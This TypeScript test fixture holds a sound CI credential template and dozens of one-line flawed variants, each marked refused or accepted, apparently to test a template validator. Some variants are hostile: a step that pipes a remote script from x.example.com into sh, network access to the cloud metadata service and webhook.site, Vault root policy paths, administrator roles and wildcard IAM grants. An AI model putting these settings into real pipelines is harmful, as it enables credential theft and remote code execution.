/*
 * Flaws planted into a good template, one line each, after the issue and hardening P-17 by somebody who had not read the rules. What a flaw is
 * called here is in no rule's words.
 */

export const sound = `# yaml-language-server: $schema=../docs/schema/template.schema.json
version: 1
template: planted
owner: team-shop
who:
  issuer: github
  repository_id: "519283746"
  trust: protected
  ref: refs/heads/main
  environment: production
credentials:
  db: { provider: vault-main, path: database/creds/shop-migrate, ttl: 10m }
  api: { provider: aws, role: "arn:aws:iam::111122223333:role/ci-deploy", policy: { Statement: [{ Effect: Allow, Action: ["s3:PutObject"], Resource: ["arn:aws:s3:::shop/releases/*"] }] }, ttl: 10m }
steps:
  migrate: { run: [npm, run, migrate], credentials: [db], network: ["db.example.com:5432"], workspace: read-only }
  ship: { run: [./ship.sh], credentials: [api], network: [credentials], workspace: read-only }
sandbox: { timeout: 15m }
`;

/** `refused`: it must not come into force, unless its author takes a risk by name. `said`: that it is told is enough. */
export interface Flaw {
  readonly name: string;
  readonly outcome: "refused" | "said";
  readonly text: string;
  /** Other templates beside it. */
  readonly beside?: string;
}

function put(line: string, other: string): string {
  if (!sound.includes(line)) throw new Error(`the sound template has no ${line}`);
  return sound.replace(line, () => other);
}

const id = '  repository_id: "519283746"\n';
const ref = "  ref: refs/heads/main\n";
const environment = "  environment: production\n";
const trust = "  trust: protected\n";

function who(lines: string): string {
  return put(ref, `${ref}${lines}`);
}

function policy(statement: string): string {
  return put('{ Effect: Allow, Action: ["s3:PutObject"], Resource: ["arn:aws:s3:::shop/releases/*"] }', statement);
}

function network(entry: string): string {
  return put('network: ["db.example.com:5432"]', `network: [${JSON.stringify(entry)}]`);
}

const refused = (name: string, text: string): Flaw => ({ name, outcome: "refused", text });
const said = (name: string, text: string): Flaw => ({ name, outcome: "said", text });

export const flaws: readonly Flaw[] = [
  refused("no issuer", put("  issuer: github\n", "")),
  refused("an issuer that the site has not", put("issuer: github", "issuer: githb")),
  refused("nobody's id", put(id, "")),
  refused("a name in the id's place", put(id, "  repository: octo/shop\n")),
  refused("a name in the id", put('"519283746"', '"octo/shop"')),
  refused("an id with a glob", put('"519283746"', '"5192*"')),
  refused("any id", put('"519283746"', '"*"')),
  refused("an unquoted id", put('"519283746"', "519283746")),
  refused("all of an owner's repositories", put(id, '  repository_owner_id: "4242"\n')),
  refused("no trust", put(trust, "")),
  refused("pull requests", put(trust, "  trust: [protected, pull_request]\n")),
  refused("any trust", put(trust, '  trust: "*"\n')),
  refused("the unknown trust", put(trust, "  trust: unknown\n")),
  refused("any environment that begins so", put(environment, '  environment: "prod*"\n')),
  refused("an event that strangers cause", who("  event_name: pull_request_target\n")),
  refused("an event that strangers cause, and whatever they run", put(trust, "  event_name: [push, issue_comment]\n")),
  refused("a claim misspelled", put(environment, "  enviroment: production\n")),
  refused("a claim misspelled under not", who("  not: { evnt_name: workflow_run }\n")),
  refused("a claim misspelled under absent", who("  absent: [base_rf]\n")),
  refused("a ref without its beginning", put(ref, "  ref: main\n")),
  refused("a ref in capitals", put(ref, "  ref: Refs/heads/main\n")),
  refused("a ref with a blank at its end", put(ref, '  ref: "refs/heads/main "\n')),
  refused("a letter of another script", put(environment, "  environment: prоduction\n")),
  refused("a boolean where the token has text", who("  ref_protected: true\n")),
  refused("a workflow at any ref", who('  job_workflow_ref: "octo/shop/.github/workflows/release.yml@**"\n')),
  refused("what cannot be at once", who("  not: { ref: refs/heads/main }\n")),
  refused("what is asked for and absent", who("  absent: environment\n")),
  refused("two alternatives of nothing", who("  any: [{}]\n")),
  said("a person by name", who("  actor: octocat\n")),
  refused("every action", policy('{ Effect: Allow, Action: "*", Resource: ["arn:aws:s3:::shop/releases/*"] }')),
  refused(
    "every action of a service",
    policy('{ Effect: Allow, Action: ["iam:*"], Resource: ["arn:aws:iam::111122223333:role/ci"] }'),
  ),
  refused("every resource", policy('{ Effect: Allow, Action: ["s3:PutObject"], Resource: "*" }')),
  refused(
    "roles handed on",
    policy('{ Effect: Allow, Action: ["iam:PassRole"], Resource: ["arn:aws:iam::111122223333:role/x"] }'),
  ),
  refused(
    "a chain of roles",
    policy('{ Effect: Allow, Action: ["sts:AssumeRole"], Resource: ["arn:aws:iam::111122223333:role/x"] }'),
  ),
  refused(
    "all but some actions",
    policy('{ Effect: Allow, NotAction: ["s3:DeleteBucket"], Resource: ["arn:aws:s3:::shop/*"] }'),
  ),
  refused(
    "all but some resources",
    policy('{ Effect: Allow, Action: ["s3:PutObject"], NotResource: ["arn:aws:s3:::bank/*"] }'),
  ),
  refused("the job's own token upstream", put("{ provider: aws, role:", "{ provider: aws-of-the-job, role:")),
  refused("an administrator's role", put("role/ci-deploy", "role/AdministratorAccess")),
  refused("Vault's own mounts", put("database/creds/shop-migrate", "sys/policy/root")),
  refused("a path that winds", put("database/creds/shop-migrate", "database/../sys/raw")),
  refused("a stored secret", put("path: database/creds/shop-migrate", "path: secret/data/shop")),
  refused("a slot that the job fills as it likes", put("database/creds/shop-migrate", '"database/creds/{head_ref}"')),
  refused("a slot that nobody fills", put("database/creds/shop-migrate", '"database/creds/{no_such_claim}"')),
  refused("a slot misspelled", put("database/creds/shop-migrate", '"database/creds/{repository-id}"')),
  refused("a life beyond a day", put("shop-migrate, ttl: 10m", "shop-migrate, ttl: 25h")),
  said("a life of a day", put("shop-migrate, ttl: 10m", "shop-migrate, ttl: 24h")),
  refused(
    "hours of what nobody can end",
    put("{ provider: vault-main, path: database/creds/shop-migrate, ttl: 10m }", "{ provider: broker, kind: x509, ttl: 12h }"),
  ),
  refused(
    "a credential in the environment",
    put("shop-migrate, ttl: 10m }", "shop-migrate, ttl: 10m, deliver: { env: { DB: password } } }"),
  ),
  refused("every host", network("*")),
  refused("every host of a top level", network("*.com")),
  refused("every tenant of a cloud", network("*.s3.amazonaws.com")),
  refused("everybody's pages", network("*.github.io")),
  refused("the host's metadata service", network("169.254.169.254:80")),
  refused("the host itself", network("localhost:5432")),
  refused("a drop box of anybody's", network("webhook.site")),
  said("an address", network("203.0.113.7:5432")),
  refused("a set that the site has not", network("set:nod")),
  refused(
    "a name that a password stands under",
    put("{ timeout: 15m }", "{ timeout: 15m, env: { pass: [CI, DEPLOY_PASSWORD] } }"),
  ),
  // The sandbox drops these whatever a template says.
  said("names that tokens stand under", put("{ timeout: 15m }", "{ timeout: 15m, env: { pass: [CI, NPM_TOKEN] } }")),
  said("every variable of a cloud", put("{ timeout: 15m }", '{ timeout: 15m, env: { pass: ["AWS_*"] } }')),
  refused("every variable", put("{ timeout: 15m }", '{ timeout: 15m, env: { pass: ["*"] } }')),
  refused("more for forks", put("{ timeout: 15m }", "{ timeout: 15m, by_trust: { fork: { memory: 32GiB } } }")),
  refused("an image by its tag", put("{ timeout: 15m }", "{ timeout: 15m, image: registry.example.com/ci/node:24 }")),
  refused("a tolerance without a reason", `${sound}tolerate: { memory-limit: "" }\n`),
  said("a tolerance", `${sound}tolerate: { memory-limit: "these hosts have no memory controller" }\n`),
  said("a job of a day", put("timeout: 15m", "timeout: 24h")),
  refused(
    "a shell that runs whatever it reads",
    put("run: [./ship.sh]", 'run: [sh, -c, "curl https://x.example.com/i.sh | sh"]'),
  ),
  said("a command that nobody pinned", put("run: [./ship.sh], ", "")),
  refused("a step with a credential that is not there", put("credentials: [db]", "credentials: [dbx]")),
  said("a credential that no step uses", put("credentials: [db], ", "")),
  said(
    "a credential without which the step can do nothing, left out",
    put("shop-migrate, ttl: 10m }", "shop-migrate, ttl: 10m, optional: true }"),
  ),
  said("watched for years", `${sound}observe: { parts: [limits], until: "2033-01-31" }\n`),
  said("watched until last year", `${sound}observe: { parts: [limits], until: "2025-01-31" }\n`),
  refused("an acceptance of nothing known", `${sound}accept: { trust-mising: "it was so before" }\n`),
  said("an acceptance of what is not there", `${sound}accept: { trust-missing: "it was so before" }\n`),
  refused("an acceptance without a reason", `${sound.replace(trust, "")}accept: { trust-missing: "x" }\n`),
  said("no owner", put("owner: team-shop\n", "")),
  refused("hours in no zone", `${sound}when: { hours: "07:00-19:00" }\n`),
  refused("hours in a zone that is none", `${sound}when: { hours: "07:00-19:00", zone: Europe/Berln }\n`),
  refused("a day too many", `${sound}when: { days: [mon, fry], zone: UTC }\n`),
  refused("a variable that is used nowhere", `${sound}for_each: { one: { stage: x } }\n`),
  refused("a key of another language", `${sound}permissions: { id-token: write }\n`),
  {
    name: "two templates for one job",
    outcome: "said",
    text: sound,
    beside: sound.replace("template: planted", "template: planted-too"),
  },
];
